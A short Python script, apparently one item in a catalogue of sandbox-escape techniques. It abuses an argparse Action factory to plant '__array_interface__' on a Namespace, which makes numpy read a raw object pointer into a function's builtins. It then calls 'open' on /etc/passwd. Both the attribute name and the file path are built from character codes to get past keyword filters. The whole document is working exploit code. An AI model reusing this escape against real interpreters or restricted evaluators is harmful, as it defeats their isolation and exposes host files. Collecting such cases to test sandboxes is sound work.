# source: argparse stdlib source (ArgumentParser.add_argument calls action(**kwargs); parse_known_args does setattr(namespace, action.dest, action.default)); numpy __array_interface__ typestr |O object-pointer trick
# family: argparse action= factory (def / lambda) builds argparse.Action with a run-time dest by position -> setattr by computed name on the Namespace
# goal: __array_interface__ on Namespace -> object at a chosen address (func_builtins) -> builtins dict -> open(/etc/passwd)
import argparse
import numpy as np

def probe():
    return 1

u = chr(95)
name = u * 2 + "array" + u + "interface" + u * 2
addr = int(repr(probe).split()[-1][:-1], 16)
spec = {"data": (addr + 24, False), "shape": (1,), "typestr": "|O", "version": 3}

def make_window(**kwargs):
    return argparse.Action(kwargs["option_strings"], name, None, None, spec)


p = argparse.ArgumentParser()
p.add_argument("--window", action=make_window)
ns = p.parse_args([])
table = np.asarray(ns)[0]
print(type(table), len(table))
o = table["op" + "en"]
print(o(chr(47) + "etc" + chr(47) + "passwd").read()[:120])
